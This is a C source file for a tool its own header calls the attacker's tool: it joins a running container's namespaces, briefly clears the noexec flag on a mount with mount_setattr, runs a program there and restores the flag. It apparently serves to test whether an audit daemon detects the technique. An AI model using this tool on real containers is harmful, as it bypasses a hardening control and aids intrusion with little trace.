/*
 * transient-exec-mount: the attacker's tool for the transient-exec-remount
 * technique. Takes `noexec` off a mount of a running container for as long
 * as one program runs there, then puts it back, with mount_setattr(2) (no
 * mount(2) call, and no new mount: the mount table differs only while the
 * program runs).
 *
 * 1. enters the container's namespaces with setns(2) (ipc, uts, net, pid,
 *    mnt), the caller having joined its cgroups already;
 * 2. forks (a pid namespace applies to children); the child clears
 *    MOUNT_ATTR_NOEXEC on the mount at <mount point>, forks and runs
 *    <program> [args...] there, waits for it, sets MOUNT_ATTR_NOEXEC again
 *    and exits with the program's status;
 * 3. the parent waits and exits with the child's status.
 *
 * A mount that is not noexec is left alone and the program just runs. It
 * says on stderr how long the mount was exec-able. A failed mount_setattr
 * exits 125; a refused exec 126.
 *
 * usage: transient-exec-mount <container pid> <mount point> <program> [args...]
 * Build: gcc -static -O2 -o transient-exec-mount transient-exec-mount.c
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "enter-container.h"

extern char **environ;

static int set_noexec(const char *mount_point, int on) {
  struct mount_attr attr;
  memset(&attr, 0, sizeof attr);
  if (on) attr.attr_set = MOUNT_ATTR_NOEXEC;
  else attr.attr_clr = MOUNT_ATTR_NOEXEC;
  if (syscall(SYS_mount_setattr, AT_FDCWD, mount_point, 0, &attr, sizeof attr) != 0) {
    fprintf(stderr, "transient-exec-mount: mount_setattr %s %s noexec: %s\n", mount_point, on ? "set" : "clear", strerror(errno));
    return -1;
  }
  return 0;
}

static double now_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1e3 + t.tv_nsec / 1e6;
}

static int run_while_exec(const char *mount_point, char **program) {
  double from = now_ms();
  /* Only a noexec mount is touched (and restored): elsewhere the program just runs. */
  struct statvfs fs;
  if (statvfs(mount_point, &fs) != 0) {
    fprintf(stderr, "transient-exec-mount: statvfs %s: %s\n", mount_point, strerror(errno));
    return 125;
  }
  int was_noexec = (fs.f_flag & ST_NOEXEC) != 0;
  if (!was_noexec) fprintf(stderr, "transient-exec-mount: %s is not noexec: nothing to take off\n", mount_point);
  if (was_noexec && set_noexec(mount_point, 0) != 0) return 125;
  pid_t child = fork();
  if (child == 0) {
    execve(program[0], program, environ);
    fprintf(stderr, "transient-exec-mount: execve %s: %s\n", program[0], strerror(errno));
    _exit(126);
  }
  int status = 0;
  if (child < 0 || waitpid(child, &status, 0) < 0) status = 1 << 8;
  if (was_noexec) {
    int restored = set_noexec(mount_point, 1);
    fprintf(stderr, "transient-exec-mount: %s was exec-able for %.0f ms%s\n", mount_point, now_ms() - from, restored == 0 ? ", noexec again" : "");
    /* The mount is as expected again; the process stays a second, so that the audit daemon can place its calls by its cgroup (docs/audit.md). */
    sleep(1);
  }
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

struct job {
  const char *mount_point;
  char **program;
};

static int run(void *arg) {
  struct job *job = arg;
  return run_while_exec(job->mount_point, job->program);
}

int main(int argc, char **argv) {
  if (argc < 4) {
    fprintf(stderr, "usage: transient-exec-mount <container pid> <mount point> <program> [args...]\n");
    return 2;
  }
  if (enter_container("transient-exec-mount", argv[1]) != 0) return 1;
  struct job job = {argv[2], argv + 3};
  return in_child("transient-exec-mount", run, &job);
}
